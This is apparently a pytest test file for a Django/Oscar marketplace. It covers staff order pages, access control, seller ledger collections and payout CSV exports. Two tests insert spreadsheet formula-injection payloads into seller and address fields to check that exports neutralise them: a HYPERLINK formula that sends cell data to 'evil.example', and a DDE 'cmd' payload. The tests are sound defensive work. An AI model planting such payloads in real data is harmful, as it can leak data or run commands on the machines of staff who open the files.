"""Staff: Oscar's dashboard order list and page still work and show the seller
orders; the page of overdue and declined parts; ledger balances, the
collection list's CSV, marking what she owed received (payout batches:
test_payouts.py)."""

import csv
import datetime as dt
import io

import pytest
from django.urls import reverse
from django.utils import timezone

from orders.models import LedgerEntry, PayoutBatch, SellerOrder
from orders.services import seller_order_transition
from sellers.models import Seller, SellerAuditEntry
from tests.factories import StaffFactory, UserFactory, make_product

from .conftest import basket_with, make_booth, place

pytestmark = pytest.mark.django_db


@pytest.fixture
def orders(db):
    booth, _ = make_booth("+989121111111", name="چرم نیلوفر")
    booth2, _ = make_booth("+989122222222", name="شیرینی مهر")
    bag = make_product(seller=booth, title="کیف")
    cake = make_product(seller=booth2, title="کیک")
    order = place(basket_with([(bag, 1), (cake, 1)]))
    late, declined = order.seller_orders.order_by("number")
    SellerOrder.objects.filter(pk=late.pk).update(
        accept_deadline=timezone.now() - dt.timedelta(hours=1)
    )
    seller_order_transition(
        seller_order=declined, action="decline", party="seller", note="تمام شد"
    )
    return order, late, declined


def test_dashboard_order_list_and_page(client, orders):
    order, late, declined = orders
    client.force_login(UserFactory(username="admin", is_staff=True, is_superuser=True))
    response = client.get(reverse("dashboard:order-list"))
    assert response.status_code == 200
    assert order.number in response.content.decode()
    page = client.get(reverse("dashboard:order-detail", args=[order.number]))
    body = page.content.decode()
    assert page.status_code == 200
    assert late.number in body and declined.number in body
    assert "چرم نیلوفر" in body and "تمام شد" in body


def test_attention_page(client, staff, orders):
    _, late, declined = orders
    client.force_login(staff)
    body = client.get(reverse("orders_staff:attention")).content.decode()
    assert body.count('data-testid="attention-part"') == 2
    assert "دیرکرد در پذیرش" in body and "تمام شد" in body


def test_staff_pages_are_404_for_others(client, orders):
    for user in (
        None,
        UserFactory(username="+989351234567"),
        StaffFactory(username="plainstaff"),
    ):
        client.logout()
        if user:
            client.force_login(user)
        for name in ("orders_staff:attention", "orders_staff:ledger"):
            assert client.get(reverse(name)).status_code == 404
        before = LedgerEntry.objects.count()
        response = client.post(
            reverse("orders_staff:payout_batch_create"), {"kind": "collection"}
        )
        assert response.status_code == 404
        assert LedgerEntry.objects.count() == before
        assert not PayoutBatch.objects.exists()


def test_payout_csv_holds_no_formula(client, staff, orders):
    """Issue 24 §1.3: a booth name and an account holder that start with `=`
    reached the payout CSV as formulas."""
    order, late, declined = orders
    for action in ("accept", "ship", "deliver"):
        seller_order_transition(seller_order=late, action=action, party="seller")
    holder = '=HYPERLINK("https://evil.example/?d="&A1,"برداشت")'
    Seller.objects.filter(pk=late.seller_id).update(
        brand_name="=1+1 چرم", payout_account_holder=holder
    )
    client.force_login(staff)
    client.post(reverse("orders_staff:payout_batch_create"), {"kind": "collection"})
    batch = PayoutBatch.objects.get()
    content = client.get(reverse("orders_staff:payout_batch_csv", args=[batch.pk]))
    rows = list(csv.reader(io.StringIO(content.content.decode("utf-8-sig"))))
    assert rows[1][3] == "'=1+1 چرم"
    assert rows[1][5] == "'" + holder
    assert rows[1][4] == "-62500"  # a real number stays a number


def test_dashboard_order_csv_holds_no_formula(client, orders):
    order, _, _ = orders
    order.shipping_address.last_name = "@SUM(1+1)*cmd|' /C calc'!A0"
    order.shipping_address.save()
    client.force_login(UserFactory(username="admin", is_staff=True, is_superuser=True))
    response = client.post(
        reverse("dashboard:order-list"),
        {"action": "download_selected_orders", "selected_order": [order.pk]},
    )
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in rows[1]


def test_every_csv_report_is_spreadsheet_safe():
    from oscar.core.loading import get_class

    from marketplace.exports import SpreadsheetSafeWriter

    formatter = get_class("dashboard.reports.reports", "ReportCSVFormatter")()
    assert isinstance(formatter.get_csv_writer(io.StringIO()), SpreadsheetSafeWriter)
    for module, name in (
        ("order.reports", "OrderReportCSVFormatter"),
        ("basket.reports", "OpenBasketReportCSVFormatter"),
        ("offer.reports", "OfferReportCSVFormatter"),
        ("voucher.reports", "VoucherReportCSVFormatter"),
        ("analytics.reports", "ProductReportCSVFormatter"),
        ("analytics.reports", "UserReportCSVFormatter"),
        ("dashboard.offers.reports", "OrderDiscountCSVFormatter"),
    ):
        writer = get_class(module, name)().get_csv_writer(io.StringIO())
        assert isinstance(writer, SpreadsheetSafeWriter), name


def test_ledger_collection_list_and_received(client, staff, orders):
    order, late, declined = orders
    for action in ("accept", "ship", "deliver"):
        seller_order_transition(seller_order=late, action=action, party="seller")
    client.force_login(staff)
    page = client.get(reverse("orders_staff:ledger")).content.decode()
    assert "چرم نیلوفر" in page and page.count('data-testid="collect-row"') == 1
    assert 'data-testid="payable-row"' not in page  # she owes: never paid out
    client.post(reverse("orders_staff:payout_batch_create"), {"kind": "collection"})
    batch = PayoutBatch.objects.get()
    line = batch.lines.get()
    csv_text = client.get(
        reverse("orders_staff:payout_batch_csv", args=[batch.pk])
    ).content.decode("utf-8-sig")
    rows = [r.split(",") for r in csv_text.strip().splitlines()]
    assert rows[0][0] == "batch_id"
    assert [r[3] for r in rows[1:]] == ["چرم نیلوفر"]
    assert rows[1][4] == "-62500"  # she owes 5 % of 1,250,000 rials
    client.post(
        reverse("orders_staff:payout_line_settle", args=[batch.pk, line.pk]),
        {"note": "واریز ۱۲", "confirm": "1"},
    )
    received = LedgerEntry.objects.get(kind="collection")
    assert received.amount == 62500 and received.created_by == staff
    assert SellerAuditEntry.objects.filter(
        action="collection_received", actor=staff
    ).exists()
    page = client.get(reverse("orders_staff:ledger")).content.decode()
    assert 'data-testid="collect-row"' not in page
